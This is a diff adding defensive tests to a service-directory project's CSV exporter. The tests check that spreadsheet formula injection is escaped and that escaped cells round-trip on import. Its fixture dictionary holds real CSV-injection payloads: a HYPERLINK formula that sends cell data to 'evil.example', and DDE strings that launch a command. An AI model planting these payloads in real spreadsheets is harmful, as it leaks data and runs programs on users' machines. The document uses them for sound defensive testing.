@@ -12,8 +12,10 @@ import uuid
 import zipfile
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
-from plainsight.directory import exporting, hsds, models
+from plainsight.directory import exporting, hsds, importing, models
 from plainsight.directory.tests import factories
 from plainsight.directory.tests.conftest import SECRET_STREET, assert_no_secret, validate
 
@@ -158,3 +160,85 @@ def test_the_zip_package_is_written_as_it_is_read(tmp_path):
     with zipfile.ZipFile(tmp_path / "pkg.zip") as archive:
         assert archive.read("services.csv") == (tmp_path / "pkg" / "services.csv").read_bytes()
         assert archive.getinfo("services.csv").date_time[0] > 1980  # dated, as before
+
+
+# Texts a spreadsheet would run as formulas (OWASP "CSV Injection"), and texts that start
+# with the same signs but run nothing, each as the CSV cell the package must hold.
+FORMULAS = {
+    '=HYPERLINK("https://evil.example/?"&A2,"Open")': (
+        '\'=HYPERLINK("https://evil.example/?"&A2,"Open")'
+    ),
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+    "\t=1+1": "'\t=1+1",
+    "\r=1+1": "'\r=1+1",
+    "'=1+1 (quoted already)": "''=1+1 (quoted already)",
+    "- Food, clothing": "'- Food, clothing",
+}
+
+
+@pytest.fixture
+def formulas(db):
+    """A service whose texts are the formulas above, and values that only look so."""
+    organization = factories.OrganizationFactory.create(name="Línea de ayuda 🙂")
+    texts = list(FORMULAS)
+    service = factories.ServiceFactory.create(
+        organization=organization,
+        name=texts[0],
+        alternate_name=texts[1],
+        description=texts[2],
+        eligibility_description=texts[3],
+        application_process=texts[4],
+        fees_description=texts[5],
+        accreditations=texts[6],
+        alert=texts[7],
+    )
+    location = factories.LocationFactory.create(organization=organization, longitude=-118.987)
+    factories.ServiceAtLocationFactory.create(service=service, location=location)
+    factories.PhoneFactory.create(service=service, number="+1 (661) 555-0199", description="-1")
+    factories.ScheduleFactory.create(service=service, freq="MONTHLY", byday="-1FR")
+    return service
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_escaped(tmp_path, formulas):
+    exporting.export_csv_package(tmp_path / "pkg")
+
+    def rows(name):
+        with (tmp_path / "pkg" / name).open(encoding="utf-8", newline="") as handle:
+            return list(csv.DictReader(handle))
+
+    (service,) = rows("services.csv")
+    cells = [service[name] for name in ("name", "alternate_name", "description")]
+    cells += [service[name] for name in ("eligibility_description", "application_process")]
+    cells += [service[name] for name in ("fees_description", "accreditations", "alert")]
+    assert cells == list(FORMULAS.values())
+    # What starts with a sign but runs nothing is written as it is: numbers, phone
+    # numbers and HSDS's (RFC 5545's) days of a month.
+    assert rows("organizations.csv")[0]["name"] == "Línea de ayuda 🙂"
+    assert rows("locations.csv")[0]["longitude"] == "-118.987"
+    (phone,) = rows("phones.csv")
+    assert (phone["number"], phone["description"]) == ("+1 (661) 555-0199", "-1")
+    assert rows("schedules.csv")[0]["byday"] == "-1FR"
+
+
+def test_escaped_cells_import_back_unchanged(tmp_path, formulas):
+    exporting.export_csv_package(tmp_path / "pkg.zip")
+    report = importing.run_import(
+        [(tmp_path / "pkg.zip", "pkg.zip")], file_format=models.ImportFormat.CSV
+    )
+    assert report.ok, [str(p) for p in report.errors]
+    assert not report.created and not report.updated and not report.removed
+    service = models.Service.objects.get(pk=formulas.pk)
+    assert service.name == '=HYPERLINK("https://evil.example/?"&A2,"Open")'
+    assert service.accreditations == "'=1+1 (quoted already)"
+    assert service.application_process == "\t=1+1"
+
+
+@given(st.text(alphabet=st.sampled_from("'=+-@\t\r 1(a|!,FRMO")) | st.text())
+def test_every_text_reads_back_exactly_and_no_cell_starts_a_formula(text):
+    cell = hsds.spreadsheet_safe(text)
+    assert hsds.from_spreadsheet_safe(cell) == text
+    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+        assert not any(c.isalpha() and c not in "MOTUWEHFRSA" for c in cell), cell
+        assert not set(cell) & set("=@|!\"'&:$\t\r"), cell
